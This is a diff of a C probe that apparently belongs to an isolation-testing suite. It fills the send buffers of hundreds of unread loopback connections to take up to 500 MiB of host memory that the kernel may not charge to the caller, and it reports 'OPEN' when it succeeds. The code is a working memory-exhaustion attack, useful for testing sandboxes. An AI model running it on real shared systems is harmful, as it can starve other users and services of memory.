@@ -1,24 +1,18 @@
-/* Fills the buffers of hundreds of loopback connections that nobody reads: memory of the whole host,
- * which not every kernel charges to anyone. The host's own count of it is told here, too. */
+/* Fills the buffers of hundreds of loopback connections that nobody reads: memory of the host that
+ * not every kernel charges to anyone. What was taken and not read must be somewhere. */
 #include "attack.h"
 #include <netinet/in.h>
-static long pages(void) {
-    char line[256];
-    long found = -1;
-    FILE *file = fopen("/proc/net/sockstat", "r");
-    while (file && fgets(line, sizeof line, file)) sscanf(line, "TCP: inuse %*d orphan %*d tw %*d alloc %*d mem %ld", &found);
-    if (file) fclose(file);
-    return found;
-}
-static void fill(int fd) {
+static long long fill(int fd) {
     static char block[1 << 16];
+    long long sum = 0;
     int wide = 64 << 20;
     setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &wide, sizeof wide);
     fcntl(fd, F_SETFL, O_NONBLOCK);
-    while (send(fd, block, sizeof block, MSG_NOSIGNAL) > 0) continue;
+    for (ssize_t sent; (sent = send(fd, block, sizeof block, MSG_NOSIGNAL)) > 0;) sum += sent;
+    return sum;
 }
 int main(void) {
-    long before = pages(), worst = 0;
+    long long sum = 0;
     struct sockaddr_in at = {AF_INET, 0, {htonl(INADDR_LOOPBACK)}, {0}};
     socklen_t size = sizeof at;
     int wide = 64 << 20, server = socket(AF_INET, SOCK_STREAM, 0);
@@ -26,15 +20,12 @@ int main(void) {
     bind(server, (struct sockaddr *)&at, sizeof at);
     listen(server, 1000);
     getsockname(server, (struct sockaddr *)&at, &size);
-    for (int n = 0; n < 120; n++) {
+    for (int n = 0; n < 300 && sum < 500LL << 20; n++) {
         int client = socket(AF_INET, SOCK_STREAM, 0);
-        fcntl(client, F_SETFL, O_NONBLOCK);
         connect(client, (struct sockaddr *)&at, sizeof at);
-        fill(client);
-        if (pages() - before > worst) worst = pages() - before;
-        if (worst > 128L << 10) break;
+        sum += fill(client);
     }
-    if (worst > 128L << 10) printf("OPEN %ld MiB of the host's memory\n", worst >> 8);
-    printf("%ld MiB\n", worst >> 8);
+    printf("%lld MiB\n", sum >> 20);
+    if (sum >= 500LL << 20) puts("OPEN the memory of the host");
     return done();
 }
